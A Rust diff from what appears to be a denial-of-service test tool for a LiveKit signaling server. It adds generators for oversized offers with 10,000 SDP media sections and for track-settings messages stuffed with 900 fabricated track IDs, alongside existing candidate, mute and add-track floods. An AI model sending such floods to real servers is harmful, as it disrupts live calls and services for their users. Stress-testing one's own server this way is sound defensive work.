@@ -5,7 +5,7 @@ use std::fmt::Write as _;
 use livekit_protocol::signal_request::Message as Request;
 use livekit_protocol::{
     AddTrackRequest, MuteTrackRequest, SessionDescription, SubscriptionPermission, SyncState, TrackPermission,
-    TrackSource, TrackType, UpdateSubscription,
+    TrackSource, TrackType, UpdateSubscription, UpdateTrackSettings,
 };
 
 use super::Attack;
@@ -14,8 +14,11 @@ use super::Attack;
 const LARGE: usize = 1_800_000;
 /// The candidates of an offer.
 const CANDIDATES: usize = 8_000;
-/// The media sections of an offer.
+/// The media sections of an offer, and of one that is not taken.
 const SECTIONS: usize = 1_000;
+const TOO_MANY_SECTIONS: usize = 10_000;
+/// The tracks in settings: 15 kB.
+const TRACKS: usize = 900;
 
 /// Returns the messages that an attacker sends before it attacks.
 pub fn preparation(attack: Attack) -> Option<Request> {
@@ -26,7 +29,9 @@ pub fn preparation(attack: Attack) -> Option<Request> {
 pub fn message(attack: Attack, number: u64, track_sid: &str) -> Request {
     match attack {
         Attack::CandidateOffers => offer(number, &candidates()),
-        Attack::SectionOffers => offer(number, &sections()),
+        Attack::SectionOffers => offer(number, &sections(SECTIONS)),
+        Attack::HugeOffers => offer(number, &sections(TOO_MANY_SECTIONS)),
+        Attack::TrackSettings => Request::TrackSetting(track_settings(number)),
         Attack::SmallOffers => offer(number, &"a=ssrc:1 cname:x\r\n".repeat(60)),
         Attack::Mutes => Request::Mute(MuteTrackRequest { sid: track_sid.to_owned(), muted: number.is_multiple_of(2) }),
         Attack::Tracks => Request::AddTrack(track(&format!("track-{number}"))),
@@ -73,14 +78,19 @@ fn candidates() -> String {
     text
 }
 
-fn sections() -> String {
+fn sections(count: usize) -> String {
     let section = |number: usize| {
         format!(
             "m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:{number}\r\na=sendonly\r\na=rtcp-mux\r\n\
              a=rtpmap:111 opus/48000/2\r\na=ssrc:{number} cname:x\r\n"
         )
     };
-    (1..SECTIONS).map(section).collect()
+    (1..count).map(section).collect()
+}
+
+fn track_settings(number: u64) -> UpdateTrackSettings {
+    let track_sids = (0..TRACKS).map(|track| format!("TR_{number:04}{track:08}")).collect();
+    UpdateTrackSettings { track_sids, width: 640, height: 360, ..UpdateTrackSettings::default() }
 }
 
 fn permissions() -> SubscriptionPermission {
